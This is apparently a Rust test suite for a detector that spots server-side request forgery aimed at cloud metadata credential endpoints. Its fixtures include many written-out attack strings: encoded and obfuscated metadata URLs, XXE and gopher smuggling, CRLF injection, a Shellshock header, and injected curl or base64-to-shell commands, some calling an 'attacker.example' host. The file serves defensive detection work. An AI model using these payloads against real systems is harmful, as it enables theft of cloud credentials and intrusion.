//! Tests of the search for targets that a request names: each place, each disguise, and what is no attempt.

use super::headers::{HeaderKind, header_kind, known_headers};
use super::text::may_be_url;
use super::*;
use crate::detect::CandidateKind;
use crate::proto::http::message::{Body, Head, Start};

/// A request as text: request line, header lines, blank line, body.
fn message(text: &str) -> Message {
    let (head, body) = text.split_once("\n\n").unwrap_or((text, ""));
    let mut lines = head.lines();
    let mut raw = Vec::new();
    let mut range = |text: &str| {
        let start = raw.len() as u32;
        raw.extend_from_slice(text.as_bytes());
        start..raw.len() as u32
    };
    let first: Vec<&str> = lines.next().unwrap().split(' ').collect();
    let start = match first[0].parse() {
        Ok(status) => Start::Response { status, phrase: range("") },
        Err(_) => Start::Request { method: range(first[0]), target: range(first[1]) },
    };
    let fields = lines.map(|line| line.split_once(": ").unwrap()).map(|(n, v)| (range(n), range(v))).collect();
    Message {
        first: Default::default(),
        last: Default::default(),
        first_index: 0,
        head: Head { start, version: None, fields, complete: true, raw },
        body: Body { len: body.len() as u64, captured: body.as_bytes().to_vec(), whole: true, later: None },
        bytes: 0,
        gap: false,
        cut: false,
        complete: true,
    }
}

fn catalogue() -> Catalogue {
    Catalogue::builtin().unwrap()
}

fn find(text: &str) -> Vec<Candidate> {
    candidates(&message(text), Hosts::Unknown, &catalogue()).0
}

/// The strongest kind found, with the place and path of the first of that kind.
fn strongest(text: &str) -> Option<(CandidateKind, Place, Option<String>)> {
    let found = find(text);
    let kind = found.iter().map(|candidate| candidate.kind).max()?;
    found.into_iter().find(|candidate| candidate.kind == kind).map(|c| (kind, c.place, c.path))
}

const ROLE: &str = "/latest/meta-data/iam/security-credentials/demo";

fn attempt(place: Place, path: &str) -> Option<(CandidateKind, Place, Option<String>)> {
    Some((CandidateKind::Attempt, place, Some(path.to_owned())))
}

#[test]
fn whole_values_are_attempts() {
    let query = || Place::Query("url".into());
    for (request, place) in [
        (format!("GET /f?url=http://169.254.169.254{ROLE}"), query()),
        (format!("GET /f?x=1&url=http%3A%2F%2F169.254.169.254{ROLE}&y=2"), query()),
        (format!("GET /f?url=http%253A%252F%252F169.254.169.254{ROLE}"), query()),
        (format!("GET /f?url=//0xa9fea9fe{ROLE}"), query()),
        (format!("GET /f?url=http://2852039166{ROLE}"), query()),
        (format!("GET /f?url=http://%E2%91%A0%E2%91%A5%E2%91%A8.254.169.254{ROLE}"), query()),
        (format!("GET /f?url=http://www.partner.example@169.254.169.254{ROLE}"), query()),
        (format!("GET /f?url=gopher://169.254.169.254:80/_GET%20{ROLE}%20HTTP/1.1%0d%0a"), query()),
        (format!("GET /f?url=http://imds.attacker.example{ROLE}"), query()),
        (format!("GET /f?url=http://169.254.169.254{ROLE}%0d%0aX-Y:%20z"), query()),
        (format!("GET /f?http://169.254.169.254{ROLE}"), Place::Query(String::new())),
        (format!("GET /proxy/http://169.254.169.254{ROLE}"), Place::Path),
        (format!("GET /proxy/http:/169.254.169.254{ROLE}"), Place::Path),
        (format!("GET /proxy/https%3A%2F%2F169.254.169.254{ROLE}"), Place::Path),
        (format!("GET /a/b//169.254.169.254{ROLE}"), Place::Path),
        (format!("GET /proxy/169.254.169.254{ROLE}"), Place::Path),
        (format!("GET /proxy/0xa9fea9fe{ROLE}"), Place::Path),
        (format!("GET http://169.254.169.254{ROLE}"), Place::AbsoluteForm),
        (format!("GET {ROLE}\nHost: 169.254.169.254"), Place::Host),
        (
            format!("GET /t\nHost: shop.example\nX-Source-Url: http://169.254.169.254{ROLE}"),
            Place::Header("x-source-url".into()),
        ),
        (
            format!(
                "POST /p\nContent-Type: application/x-www-form-urlencoded\n\na=b&cb=http%3A%2F%2F169.254.169.254{ROLE}"
            ),
            Place::Form("cb".into()),
        ),
        (format!("POST /p\n\na=b&cb=http%3A%2F%2F169.254.169.254{ROLE}"), Place::Form("cb".into())),
        (
            format!("POST /p\nContent-Type: application/json\n\n{{\"a\":1,\"u\" : \"http://169.254.169.254{ROLE}\"}}"),
            Place::Json("u".into()),
        ),
        (
            format!("POST /p\n\n{{\"u\":[\"x\",\"http:\\/\\/\\u0031\\u0036\\u0039.254.169.254{ROLE}"),
            Place::Json("u".into()),
        ),
        (
            format!("POST /p\n\n{{\"s\":\"{{\\\"u\\\":\\\"http://169.254.169.254{ROLE}\\\"}}\"}}"),
            Place::Json("u".into()),
        ),
        (
            format!(
                "POST /p\nContent-Type: application/x-www-form-urlencoded\n\n{{\"u\":\"http://169.254.169.254{ROLE}\"}}"
            ),
            Place::Json("u".into()),
        ),
        (
            format!(
                "POST /p\nContent-Type: multipart/form-data; boundary=XX\n\n--XX\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--XX\r\nContent-Disposition: form-data; name=\"u\"\r\n\r\nhttp://169.254.169.254{ROLE}\r\n--XX--\r\n"
            ),
            Place::Multipart("u".into()),
        ),
        (format!("POST /p\nContent-Type: text/xml\n\n<a><b>http://169.254.169.254{ROLE}</b></a>"), Place::Xml),
        (
            format!(
                "POST /p\nContent-Type: image/svg+xml\n\n<svg><image xlink:href='http://169&#46;254.169.254{ROLE}'/></svg>"
            ),
            Place::Xml,
        ),
        (
            format!(
                "POST /p\n\n<?xml version=\"1.0\"?><!DOCTYPE r [ <!ENTITY x SYSTEM \"http://169.254.169.254{ROLE}\"> ]><r>&x;</r>"
            ),
            Place::Xml,
        ),
        (format!("POST /p\n\n<!DOCTYPE r SYSTEM \"http://169.254.169.254{ROLE}\"><r/>"), Place::Xml),
        (
            format!("POST /p?svg=%3Csvg%20xmlns%3D%22x%22%3E%3Cimage%20href%3D%22http://169.254.169.254{ROLE}%22/%3E"),
            Place::Xml,
        ),
        (format!("POST /p\n\nhttp://169.254.169.254{ROLE}\n"), Place::Body),
    ] {
        assert_eq!(strongest(&request), attempt(place, ROLE), "{request}\n{:?}", find(&request));
    }
    assert_eq!(strongest("GET /f?url=http://169.254.169.254"), Some((CandidateKind::Attempt, query(), None)));
}

#[test]
fn text_commands_and_excluded_headers_are_mentions() {
    let encoded = "Y3VybCAtcyBodHRwOi8vMTY5LjI1NC4xNjkuMjU0L2xhdGVzdC91c2VyLWRhdGE=";
    let utf16 = "YwB1AHIAbAAgADEANgA5AC4AMgA1ADQALgAxADYAOQAuADIANQA0AC8AbABhAHQAZQBzAHQALwB1AHMAZQByAC0AZABhAHQAYQA";
    for request in [
        "GET /ping?host=x%3b+curl+-s+http%3a%2f%2f169.254.169.254%2flatest%2fuser-data+%23".to_owned(),
        "GET /ping?host=;curl+169.254.169.254/latest/user-data".to_owned(),
        "GET /ping?host=$(curl+0xa9fea9fe/latest/user-data)".to_owned(),
        "GET /t?q={{fetch('http://169.254.169.254/latest/user-data')}}".to_owned(),
        format!("GET /run?c=echo+{encoded}|base64+-d|sh"),
        format!("GET /run?c=x{encoded}"),
        format!("GET /run?c=powershell+-enc+{utf16}"),
        format!("POST /run\n\n{{\"cmd\":\"{encoded}\"}}"),
        "GET /run?c=;curl+http://imds.attacker.example/latest/user-data".to_owned(),
        "GET /\nReferer: http://169.254.169.254/latest/user-data".to_owned(),
        "GET /\nCookie: next=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data".to_owned(),
        "GET /\nUser-Agent: () { :; }; curl http://169.254.169.254/latest/user-data".to_owned(),
        "GET /latest/user-data\nX-Forwarded-Host: 169.254.169.254".to_owned(),
        "POST /wiki\n\n{\"body\":\"Run `curl http://169.254.169.254/latest/user-data` inside\"}".to_owned(),
        "POST /_bulk\nContent-Type: application/x-ndjson\n\n{\"url.full\":\"http://169.254.169.254/latest/user-data\"}\n".to_owned(),
        "POST /wiki\nContent-Type: text/html\n\n<html><a href='http://169.254.169.254/latest/user-data'>".to_owned(),
        "POST /wiki\nContent-Type: text/plain\n\nline\nsee http://169.254.169.254/latest/user-data\n".to_owned(),
    ] {
        let found = strongest(&request).map(|(kind, _, path)| (kind, path));
        let expected = (CandidateKind::Mention, Some("/latest/user-data".to_owned()));
        assert_eq!(found, Some(expected), "{request}\n{:?}", find(&request));
    }
}

#[test]
fn what_only_looks_like_it_is_nothing() {
    for request in [
        "GET /search?q=169.254.169.254",
        "GET /search?order=2852039166&colour=0xa9fea9fe&ver=169.254.169.254",
        "GET /latest/news\nHost: docs.shop.example",
        "GET /computeMetadata/v1/docs\nHost: docs.shop.example",
        "GET /metadata/instance\nHost: docs.shop.example",
        "GET /metadata/v1/songs",
        "GET /v1.2/items/3?when=12:30",
        "POST /d\n\n{\"see\":\"http://169.254.169.254/\"}",
        "POST /d\nContent-Type: text/xml\n\n<a>http://169.254.169.254</a>",
        "POST /d\n\n{\"text\":\"the address http://169.254.169.254 (AWS, Azure, GCP) is link-local\"}",
        "GET /a?b=c\nCookie: a=b; token=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
        "GET /f?url=file:///etc/passwd",
    ] {
        assert_eq!(find(request), [], "{request}");
    }
    for (request, host) in [
        ("GET /fetch?url=http://cdn.partner.example/x.png", "cdn.partner.example"),
        ("GET /fetch?url=http://169.254.7.7/", "169.254.7.7"),
        ("GET /fetch?url=http://169.254.169.249/latest/meta-data", "169.254.169.249"),
        ("GET /fetch?url=http://127.0.0.1/latest/user-data", "127.0.0.1"),
    ] {
        let found = find(request);
        let host: HostRef = host.parse().map_or_else(|_| HostRef::Name(host.to_owned()), HostRef::Address);
        assert_eq!(
            found.iter().map(|c| (c.kind, &c.host)).collect::<Vec<_>>(),
            [(CandidateKind::Url, &host)],
            "{request}"
        );
    }
}

#[test]
fn redirects_and_own_urls() {
    let catalogue = catalogue();
    let asked = HostRef::Name("a.example".into());
    let to = |text: &str| redirect(&message(text), Some(&asked), &catalogue);
    let found = to(&format!("302\nLocation: http://169.254.169.254{ROLE}")).unwrap();
    assert_eq!((found.kind, found.path.as_deref()), (CandidateKind::Attempt, Some(ROLE)));
    let found = to("200\nRefresh: 0; url=http://169.254.169.254/latest/user-data").unwrap();
    assert_eq!((found.kind, found.path.as_deref()), (CandidateKind::Attempt, Some("/latest/user-data")));
    let found = to("307\nLocation: /next?x=1").unwrap();
    assert_eq!((found.kind, found.host, found.url.as_str()), (CandidateKind::Url, asked.clone(), "/next?x=1"));
    assert_eq!(to("200\nLocation: http://169.254.169.254/"), None);
    assert_eq!(own_url(&message("GET /r?a=b\nHost: A.example:80")), Some((asked.clone(), "/r?a=b".into())));
    assert_eq!(own_url(&message("GET http://a.example/r\nHost: proxy")), Some((asked, "/r".into())));
}

#[test]
fn candidates_are_bounded() {
    let many: String =
        (0..200).map(|i| format!("u{i}=http://h{i}.example/&v{i}=http://169.254.169.254/{i}&")).collect();
    let found = find(&format!("POST /p\nContent-Type: application/x-www-form-urlencoded\n\n{many}"));
    let of_kind = |kind| found.iter().filter(|candidate| candidate.kind == kind).count();
    assert_eq!((of_kind(CandidateKind::Attempt), of_kind(CandidateKind::Url)), (ATTEMPTS, ORDINARY));
}

#[test]
fn no_bytes_break_it() {
    use proptest::prelude::*;
    use proptest::test_runner::{Config, RngAlgorithm, TestRng, TestRunner};
    let catalogue = catalogue();
    let piece = prop_oneof![
        Just("http://169.254.169.254/latest/user-data".to_owned()),
        prop::sample::select(vec![
            "<", "<!", "\"", "\\", "\\u", "{", "[", "&#", "%", "--XX", "\r\n\r\n", "=", "&", "//", "@", ";"
        ])
        .prop_map(str::to_owned),
        "\\PC{0,6}",
    ];
    let kinds = prop::sample::select(vec![
        "application/json",
        "text/xml",
        "multipart/form-data; boundary=XX",
        "application/x-www-form-urlencoded",
        "text/plain",
    ]);
    let requests = (kinds, prop::collection::vec(piece, 0..30)).prop_map(|(kind, pieces)| (kind, pieces.concat()));
    let mut runner =
        TestRunner::new_with_rng(Config::with_cases(300), TestRng::deterministic_rng(RngAlgorithm::ChaCha));
    let check = |(kind, text): (&str, String)| {
        let line = text.replace([' ', '\n', '\r'], "");
        let mut request = message(&format!("POST /{line} x\nContent-Type: {kind}\nX-A: v{line}"));
        request.body.captured = text.into_bytes();
        let found = candidates(&request, Hosts::Unknown, &catalogue).0;
        prop_assert!(found.len() <= ATTEMPTS + 2 * MENTIONS + ORDINARY);
        Ok(())
    };
    runner.run(&requests, check).unwrap();
}

#[test]
fn headers_are_known_by_their_names_in_any_case() {
    for len in 0..64 {
        for (name, kind) in (0..=u8::MAX).flat_map(|first| known_headers(len, first)) {
            assert_eq!((name.len(), header_kind(name.to_ascii_uppercase().as_bytes())), (len, *kind), "{name}");
        }
    }
    let known = (0..64).flat_map(|len| (0..=u8::MAX).map(move |first| known_headers(len, first).len()));
    assert_eq!(known.sum::<usize>(), 23);
    assert_eq!(header_kind(b"x-image-url"), HeaderKind::Other);
}

#[test]
fn what_may_be_a_url_is_told_by_its_beginning_or_its_marks() {
    for value in ["http:x", "WSS", "gopher", "//h", "a/b//c", "%68", "a\\b", "a/%", "x\u{ff0e}"] {
        assert!(may_be_url(value.as_bytes()), "{value}");
    }
    for value in ["", "ht", "text/html,application/xhtml+xml,*/*;q=0.8", "gzip, deflate", "en-US,en;q=0.5", "a/"] {
        assert!(!may_be_url(value.as_bytes()), "{value}");
    }
}

#[test]
fn hosts_that_were_looked_up_are_looked_at_again_only_where_they_hide_something() {
    let found = |host: &str| {
        let message = message(&format!("GET /latest HTTP/1.1\nHost: {host}"));
        let find = |hosts| candidates(&message, hosts, &catalogue()).0.len();
        (find(Hosts::Unknown), find(Hosts::Ordinary))
    };
    assert_eq!(found("shop.example.com"), (0, 0));
    assert_eq!(found("169.254.169.254"), (1, 0));
    assert_eq!(found("fd00:ec2::254%25@x"), (1, 1));
}

/// Steps that the search of a request with `body` takes, and whether it was cut.
fn steps(kind: &str, target: &[u8], body: &[u8]) -> (usize, bool) {
    let mut request = message(&format!("POST /TARGET HTTP/1.1\nContent-Type: {kind}"));
    let Start::Request { target: range, .. } = &mut request.head.start else { unreachable!() };
    *range = request.head.raw.len() as u32..(request.head.raw.len() + target.len()) as u32;
    request.head.raw.extend_from_slice(target);
    request.body.captured = body.to_vec();
    let catalogue = catalogue();
    let mut search = Search::new(&catalogue, request.head.raw.len() + body.len());
    search.target(&request);
    search.headers(&request, Hosts::Unknown);
    search.body(&request);
    (search.budget.spent(), search.budget.is_cut())
}

const KINDS: [&str; 6] = [
    "application/json",
    "text/xml",
    "text/html",
    "multipart/form-data; boundary=XX",
    "application/x-www-form-urlencoded",
    "text/plain",
];

/// Any piece, again and again: twice the bytes never take much more than twice the steps, and no bytes more than the
/// budget has for each.
#[test]
fn work_is_linear_in_bytes_whatever_they_are() {
    use proptest::prelude::*;
    use proptest::test_runner::{Config, RngAlgorithm, TestRng, TestRunner};
    let mark = prop::sample::select(vec![
        "/",
        "//",
        "http:",
        "http://",
        "@",
        "@1",
        "1.1",
        "%2f",
        "%25",
        "%252525",
        "\\",
        "\\/",
        "\\u002f",
        "&",
        "=",
        "?",
        "#",
        "\"",
        "'",
        "<",
        "<a ",
        "<iframe src=",
        "<iframe/srcdoc=",
        "<script>",
        "<style>",
        "url(",
        "{",
        "[",
        ":",
        ",",
        ";",
        "\n",
        "--XX",
        "\r\n\r\n",
        "eyJ",
        "aHR0cDovLzE",
        "687474703a2f2f",
        "169.254.169.254",
        "metadata",
        "latest/meta-data",
        "&#47;",
        "\u{ff0f}",
        "\u{2460}",
        "\u{fdfa}",
        "\u{6f22}",
        "[::",
        "0x",
        "-",
        "x",
        "#EXTM3U\n",
        "PK\u{3}\u{4}",
        " ",
    ]);
    let pieces = prop::collection::vec(mark, 1..6).prop_map(|marks| marks.concat());
    let inputs = (prop::sample::select(KINDS.to_vec()), pieces, any::<bool>());
    let mut runner =
        TestRunner::new_with_rng(Config::with_cases(250), TestRng::deterministic_rng(RngAlgorithm::ChaCha));
    let check = |(kind, piece, in_target): (&str, String, bool)| {
        let of = |bytes: usize| {
            let text = piece.repeat(bytes / piece.len() + 1).into_bytes();
            match in_target {
                true => (text.len(), steps(kind, &[b"/", &text[..]].concat(), b"")),
                false => (text.len(), steps(kind, b"/", &text)),
            }
        };
        let ((few_bytes, (few, few_cut)), (many_bytes, (many, many_cut))) = (of(4_000), of(16_000));
        let per_byte = |bytes: usize, steps: usize| steps.saturating_sub(8 * 1024) / bytes;
        prop_assert!(per_byte(few_bytes, few) <= 33 && per_byte(many_bytes, many) <= 33, "{few} {many}");
        if !few_cut && !many_cut {
            prop_assert!(many <= 5 * few + 8 * 1024, "{few} for {few_bytes} bytes, {many} for {many_bytes}");
        }
        Ok(())
    };
    runner.run(&inputs, check).unwrap();
}

/// What applications send costs far less than it may.
#[test]
fn ordinary_messages_are_searched_to_the_end() {
    let row = r#"{"id":48213,"name":"Müller & Söhne","avatar":"https://static.acme.test/u/48213.png?s=64","tags":["a/b","c"],"note":"see https://wiki.acme.test/x/y?id=7 and \"call\" back","token":"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"},"#;
    let json = format!("[{}]", row.repeat(200));
    let html = format!(
        "<html>{}</html>",
        "<a href='/help/faq'>?</a><img src=\"https://static.acme.test/img/1.svg\">".repeat(400)
    );
    let form = "name=J%C3%BCrgen+M&next=https%3A%2F%2Fshop.acme.test%2Fcart%3Fid%3D1&csrf=hB4tYq0lX2mZp8vRk1sWcN3e&"
        .repeat(150);
    let picture = format!(
        "{{\"logo\":\"data:image/gif;base64,{}\"}}",
        "a7G0JZpa03UBS92nWf0rL1tbG0pwosBC2XVwycNSPy8ro93P/".repeat(900)
    );
    let chinese = format!("{{\"t\":\"{}\"}}", "漢字仮名交じり文を読む。次の行も同じ、".repeat(600));
    for (kind, body) in [
        ("application/json", &json),
        ("text/html", &html),
        ("application/x-www-form-urlencoded", &form),
        ("application/json", &picture),
        ("application/json", &chinese),
    ] {
        let (steps, cut) = steps(kind, b"/api/v1/items?page=2&sort=name", body.as_bytes());
        assert!(!cut && steps < 16 * body.len(), "{kind} {steps} for {}", body.len());
    }
}

/// However dear what stands before it: a plainly written target is found, by the literal pass if need be.
#[test]
fn what_the_work_was_used_up_before_is_found_literally() {
    let dear = "/http:%252525252f%252525252f@1@2".repeat(1500);
    for text in [
        format!("POST {dear}\nHost: web\n\nu=http://169.254.169.254{ROLE}"),
        format!("POST /x\nContent-Type: text/plain\nX-A: {dear}\n\n{} http://metadata.google.internal{ROLE} ", dear),
        format!(
            "POST /x\nContent-Type: application/json\n\n[\"{}\",\"http://0xa9fea9fe{ROLE}\"]",
            dear.replace('/', "\\u002f")
        ),
    ] {
        let (found, _) = candidates(&message(&text), Hosts::Unknown, &catalogue());
        assert!(found.iter().any(|c| c.path.as_deref() == Some(ROLE) && c.is_metadata), "{found:?}");
    }
}

/// What was used up on a record is no reason to take what it reports for a request.
#[test]
fn a_record_stays_one_when_its_search_is_cut() {
    let dear = "\\u002fhttp:%252525252f%252525252f@1@2".repeat(1500);
    let body = format!(r#"{{"resourceSpans":["{dear}","http://169.254.169.254{ROLE}"]}}"#);
    let (found, cut) = candidates(
        &message(&format!("POST /x\nContent-Type: application/json\n\n{body}")),
        Hosts::Unknown,
        &catalogue(),
    );
    assert!(cut && found.iter().all(|c| c.kind != CandidateKind::Attempt), "{found:?}");
}

#[test]
fn harmless_links_use_up_nothing() {
    let links: String = (0..400)
        .map(|i| format!("<a href='/help/faq{i}'>?</a><img src='https://cdn{i}.example/img/{i}.svg'>"))
        .collect();
    let body = format!("{{\"page\":\"{links}<iframe src='http://169.254.169.254{ROLE}'>\"}}");
    let expected = attempt(Place::Json("page".into()), ROLE);
    assert_eq!(strongest(&format!("POST /render\nContent-Type: application/json\n\n{body}")), expected);
    let rows: String = (0..400).map(|i| format!("{i};https://static.example/p/{i}.webp\n")).collect();
    let found = find(&format!("POST /rows\nContent-Type: text/csv\n\n{rows}9;http://169.254.169.254{ROLE}\n"));
    assert!(found.iter().any(|c| c.path.as_deref() == Some(ROLE)));
}

#[test]
fn renderers_load_some_things_and_not_others() {
    let url = format!("http://169.254.169.254{ROLE}");
    for page in [
        format!("<iframe src='{url}'>"),
        format!("<p><object data={url} type=text/html>"),
        format!("<LINK REL=stylesheet HREF=\"{url}\">"),
        format!("<img srcset='a.png 1x, {url} 2x'>"),
        format!("<div style=\"background:url({url})\">"),
        format!("<style>@import '{url}';</style>"),
        format!("<meta http-equiv=refresh content=\"0; URL='{url}'\">"),
        format!("<svg><image xlink:href=\"{url}\"/></svg>"),
        format!("<iframe srcdoc=\"<img src='{url}'>\">"),
        format!("#EXTM3U\n#EXTINF:1,\n{url}\n"),
        format!("#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"{url}\"\na.ts\n"),
    ] {
        let found =
            strongest(&format!("POST /render\nContent-Type: text/html\n\n{page}")).map(|(kind, _, path)| (kind, path));
        assert_eq!(found, Some((CandidateKind::Attempt, Some(ROLE.to_owned()))), "{page}");
    }
    for page in [
        format!("<p><a href='{url}'>x</a>"),
        format!("<p><!-- <img src='{url}'> -->"),
        format!("<script>x='{url}'</script>"),
    ] {
        let found = strongest(&format!("POST /wiki\nContent-Type: text/html\n\n{page}")).map(|(kind, ..)| kind);
        assert_eq!(found, Some(CandidateKind::Mention), "{page}");
    }
    let pieces = format!("<script>let a=['169','254'];load('http://'+a.concat(a).join('.')+'{ROLE}')</script>");
    assert_eq!(strongest(&format!("POST /r\nContent-Type: text/html\n\n{pieces}")).unwrap().2.unwrap(), ROLE);
}

#[test]
fn disguises_of_where_a_url_stands_are_undone() {
    let url = format!("http://169.254.169.254{ROLE}");
    let hex: String = url.bytes().map(|b| format!("{b:02X}")).collect();
    use base64::Engine as _;
    let base64 = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(&url);
    for (request, kind) in [
        (format!("GET /p/5f4dcc3b5aa765d61d8327deb882cf99/{hex}"), CandidateKind::Attempt),
        (format!("GET /img/{base64}"), CandidateKind::Attempt),
        (format!("GET @169.254.169.254{ROLE}"), CandidateKind::Attempt),
        (format!("GET :80@169.254.169.254{ROLE}"), CandidateKind::Attempt),
        (format!("GET /f?u=jar:{url}!/META-INF/x"), CandidateKind::Attempt),
        (
            "POST /i\nContent-Type: application/json\n\n{\"dsn\":\"jdbc:mysql://169.254.169.254:80/x\"}".into(),
            CandidateKind::Attempt,
        ),
        (format!("GET /f?u=http://169.254.169.254%00.acme.test{ROLE}"), CandidateKind::Attempt),
        (format!("GET /f?u=https://r.example/to?url={url}"), CandidateKind::Attempt),
        (format!("GET /f?u=https://r.example/{url}"), CandidateKind::Attempt),
        ("GET /f?u=http://169.254.169.254/latest/user-data%3Fa+b".into(), CandidateKind::Attempt),
        (
            "POST /p\nContent-Type: multipart/form-data; boundary=b\n\n--b\r\nContent-Disposition: form-data; name=\"u\"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nhttp:=2F=2F169.254.169.254=2Flatest=\r\n/user-data\r\n--b--"
                .into(),
            CandidateKind::Attempt,
        ),
        (
            format!(
                "GET /\nAuthorization: Bearer {}.e30.c2ln",
                base64::engine::general_purpose::URL_SAFE_NO_PAD
                    .encode(format!("{{\"alg\":\"ES256\",\"jku\":\"{url}\"}}"))
            ),
            CandidateKind::Mention,
        ),
        (
            format!("POST /p\nContent-Type: application/json\n\n{{\"host\":\"169.254.169.254\",\"uri\":\"{ROLE}\"}}"),
            CandidateKind::Mention,
        ),
        (format!("GET /probe?ip=169.254.169.254&port=80&uri={}", ROLE.replace('/', "%2F")), CandidateKind::Mention),
    ] {
        assert_eq!(strongest(&request).map(|found| found.0), Some(kind), "{request}\n{:?}", find(&request));
    }
}

#[test]
fn records_and_inventories_are_no_attempts() {
    let url = "http://169.254.169.254/latest/meta-data/iam/security-credentials/demo";
    for request in [
        format!(
            "POST /v1/traces\nContent-Type: application/json\n\n{{\"resourceSpans\":[{{\"v\":{{\"stringValue\":\"{url}\"}}}}]}}"
        ),
        format!(
            "POST /any\nContent-Type: application/json\n\n[{{\"traceId\":\"9\",\"tags\":{{\"http.url\":\"{url}\"}}}}]"
        ),
        format!("POST /api/4/store/\nContent-Type: application/json\n\n{{\"x\":\"{url}\"}}"),
        format!(
            "POST /ingest\nContent-Type: application/json\n\n[{{\"event\":{{\"kind\":\"event\"}},\"url\":{{\"full\":\"{url}\"}}}}]"
        ),
        format!("PUT /logs-2026/_create/1\nContent-Type: application/json\n\n{{\"u\":\"{url}\"}}"),
        format!("POST /services/collector\nContent-Type: application/json\n\n{{\"event\":{{\"uri\":\"{url}\"}}}}"),
        format!(
            "POST /apis/apps/v1/deployments\nContent-Type: application/json\n\n{{\"apiVersion\":\"apps/v1\",\"kind\":\"Deployment\",\"spec\":{{\"u\":\"{url}\"}}}}"
        ),
        format!(
            "POST /apis/apps/v1/deployments\nContent-Type: application/yaml\n\napiVersion: apps/v1\nkind: Deployment\nspec:\n  url: {url}\n"
        ),
        format!(
            "POST /tasks\nContent-Type: application/json\n\n{{\"environment\":[{{\"name\":\"A\",\"value\":\"{url}\"}}]}}"
        ),
    ] {
        let found = find(&request);
        assert!(
            !found.is_empty() && found.iter().all(|c| c.kind == CandidateKind::Mention && c.while_open),
            "{request}\n{found:?}"
        );
    }
    for request in [
        "GET /api/v1/ip/169.254.169.254/history",
        "GET /orders/list\nHost: data-server:3000",
        "GET /x?u=http://metadata/x",
    ] {
        let strong = find(request).into_iter().filter(|c| c.kind == CandidateKind::Attempt).count();
        assert_eq!(strong, 0, "{request}\n{:?}", find(request));
    }
    assert_eq!(
        strongest("GET /x?u=http://metadata/computeMetadata/v1/instance/zone").unwrap().0,
        CandidateKind::Attempt
    );
}

#[test]
fn long_bodies_are_read_to_the_end_in_pieces() {
    use crate::proto::http::later::{Effort, Watch as _};
    let watch = LaterTargets::new(std::sync::Arc::new(catalogue()));
    let look_with = |effort, block: String| {
        let mut found = Vec::new();
        watch.look(block.as_bytes(), effort, &mut found);
        String::from_utf8(found).unwrap()
    };
    let look = |block| look_with(Effort::Whole, block);
    let filler = "QUJD".repeat(2000);
    assert_eq!(look(format!("{filler}\",\"u\":\"http://169.254.169.254/a\"}}")), "vhttp://169.254.169.254/a\n");
    assert_eq!(look(format!("{filler}\r\n\r\nhttp:\\/\\/0xa9fea9fe/a\r\n--b")), "vhttp://0xa9fea9fe/a\n");
    assert_eq!(look(format!("{filler} see http://169.254.169.254/a for it")), "mhttp://169.254.169.254/a\n");
    assert_eq!(look(format!("{filler} https://cdn.example/a")), "");
    let literally = |block| look_with(Effort::Literal, block);
    assert_eq!(literally(format!("{filler}\",\"u\":\"http://169.254.169.254/a\"}}")), "vhttp://169.254.169.254/a\n");
    let disguised = |look: &dyn Fn(String) -> String| look("\",\"u\":\"aHR0cDovLzE2OS4yNTQuMTY5LjI1NC9h\"}".to_owned());
    assert_eq!((disguised(&literally), disguised(&look).is_empty()), (String::new(), false), "base64 takes more");
    let many = "http://169.254.169.254/a ".repeat(600);
    assert!(literally(many).len() < 1024, "each is read, and few are");
}
